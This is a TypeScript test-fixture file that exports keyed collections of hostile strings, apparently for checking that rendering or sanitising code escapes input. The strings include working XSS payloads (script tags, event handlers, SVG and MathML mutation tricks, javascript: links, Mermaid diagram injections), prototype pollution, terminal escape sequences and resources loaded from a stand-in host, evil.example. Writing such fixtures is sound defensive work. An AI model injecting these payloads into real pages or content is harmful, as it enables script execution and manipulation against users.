/** Sets `window.pwned` when it runs. */
const run = 'window.pwned=1';
const evil = 'http://evil.example/pwned';

/** HTML that takes effect if inserted without escaping, by technique. */
export const activePayloads: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script that ends another': `</script><script>${run}</script>`,
  'a script that ends a text field': `</textarea></title></style><script>${run}</script>`,
  'a script that ends an attribute': `"><script>${run}</script>'>`,
  'a script from elsewhere': `<script src="${evil}.js"></script>`,
  'an event handler': `<img src=x onerror=${run}>`,
  'an event handler that ends an attribute': `" autofocus onfocus=${run} x="`,
  'an event handler of a detail': `<details open ontoggle=${run}>pwned</details>`,
  'an event handler of SVG': `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  'a script in SVG': `<svg><script>${run}</script><foreignObject><iframe src="javascript:${run}"/></svg>`,
  'SVG that uses another': `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  'MathML that is parsed twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'a comment that ends early': `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>`,
  CDATA: `<![CDATA[><img src=x onerror=${run}>]]>`,
  'a frame': `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="${evil}"></iframe>`,
  'an object': `<object data="${evil}"></object><embed src="${evil}">`,
  'a form': `<form action="${evil}"><button formaction="javascript:${run}">pwned</button></form>`,
  'a base and a refresh': `<base href="${evil}/"><meta http-equiv=refresh content="0;url=${evil}">`,
  'a style': `<style>@import url(${evil}.css);*{background:url(${evil})}</style><link rel=stylesheet href="${evil}">`,
  'a style attribute': `<p style="background:url(${evil})">pwned</p>`,
  'clobbered names': `<a id=root name=pwned></a><form id=pwned><input name=attributes></form>`,
};

/** Hostile values for any field, by technique. All contain the word `pwned`. */
export const payloads: Readonly<Record<string, string>> = {
  ...activePayloads,
  'a link that runs': `[pwned](javascript:${run}) <a href="javascript:${run}">pwned</a>`,
  'a link that runs, spelt otherwise': `[pwned](JaVa&#x53;cript&colon;${run}) [pwned](<java\tscript:${run}>)`,
  'a link of data': `[pwned](data:text/html,<script>${run}</script>) ![pwned](data:image/svg+xml,<svg/onload=${run}>)`,
  'a link by reference': `[pwned][1] <javascript:${run}>\n\n[1]: vbscript:${run} "pwned"`,
  'an image from elsewhere': `![pwned](${evil}.png) <img src="${evil}.png" srcset="${evil}.png 2x">`,
  'a diagram': `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${run}>"] --> pwned\nclick A href "javascript:${run}"\n\`\`\``,
  'a diagram that calls': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "htmlLabels": true}}%%\nflowchart TD\nA["<img src=x onerror=${run}>pwned"] --> B["<b onclick=${run}>pwned</b>"]\nclick A call pwned()\nclick B href "javascript:${run}"\n\`\`\``,
  'a diagram with settings': `\`\`\`mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  themeCSS: "* { display: none !important }"\n---\nflowchart TD\nA["<iframe srcdoc='<script>parent.${run}</script>'>pwned</iframe>"]\n\`\`\``,
  'a diagram with styles': `\`\`\`mermaid\nflowchart TD\nA[pwned]\nstyle A fill:url(${evil}#a)\nclassDef x fill:u\\72l(${evil})\nclass A x\n\`\`\``,
  'a diagram that ends its styles': `\`\`\`mermaid\nflowchart TD\nA[pwned]:::x\nclassDef x fill:#fff;}</style><script>${run}</script><style>*{display:none\n\`\`\``,
  'a diagram with a picture': `\`\`\`mermaid\nflowchart TD\nA@{ img: "${evil}.png", label: "pwned" }\n\`\`\``,
  'a diagram of messages': `\`\`\`mermaid\nsequenceDiagram\nparticipant A as <img src=x onerror=${run}>\nlink A: pwned @ javascript:${run}\nlinks A: {"pwned": "javascript:${run}"}\nA->>A: <script>${run}</script>\n\`\`\``,
  'a diagram of classes': `\`\`\`mermaid\nclassDiagram\nclass A["pwned <svg onload=${run}>"]\nlink A "javascript:${run}"\ncallback A "pwned"\n\`\`\``,
  'a language': `\`\`\`"><img src=x onerror=${run}>\npwned\n\`\`\``,
  templates: `{{constructor.constructor('${run}')()}} \${${run}} <%= pwned %> #{pwned}`,
  'a prototype': '{"__proto__":{"pwned":1}}',
  'a reordered line':
    'pwned \u202Egnp.exe\u202C \u2066\u2067\u2068\u2069\u202A\u202B\u202D\u200E\u200F\u061C',
  'hidden characters': 'pw\u200Bn\u200Ced\u200D\u2060\uFEFF\u00AD\u180E pwned',
  'right to left': 'pwned \u05D0\u05D1\u05D2 (\u0627\u0644\u0639) pwned',
  'many accents': `pwned${'\u0301\u0488\u20DD'.repeat(80)}`,
  'colours and movements': 'pwned\u001B[31m\u001B[2J\u001B[1;1H\u001B[8m\u001B[0m',
  'a link of a terminal': `pwned\u001B]8;;${evil}\u0007x\u001B]8;;\u001B\\`,
  'a clipboard of a terminal': 'pwned\u001B]52;c;cHduZWQ=\u0007\u001B]0;pwned\u001B\\',
  'sequences of one byte': 'pwned\u009B31m\u009D52;c;cHduZWQ=\u009C\u0090q\u009C\u0085\u0084',
  'sequences that are left when one is taken away':
    'pwned\u001B\u001B[0m[31m\u001B]0;\u001B[2J\u009B\u001B[0m31m',
  'bells and backspaces': 'pwned\u0007\b\b\b\b\u007F\v\f\u000E\u000F\u0000',
  'overwritten lines': 'pwned\rgalley: approved\r\n\u2028\u2029pwned',
  'half characters': 'pwned\uD800 \uDC00 \uDBFF',
  'no text': '\uFFFE\uFFFF\uFFF9pwned\uFFFA\uFFFB',
  'a long word': `pwned${'W'.repeat(3000)}`,
  'a log line': 'pwned\n{"level":50,"msg":"pwned"}\n',
};
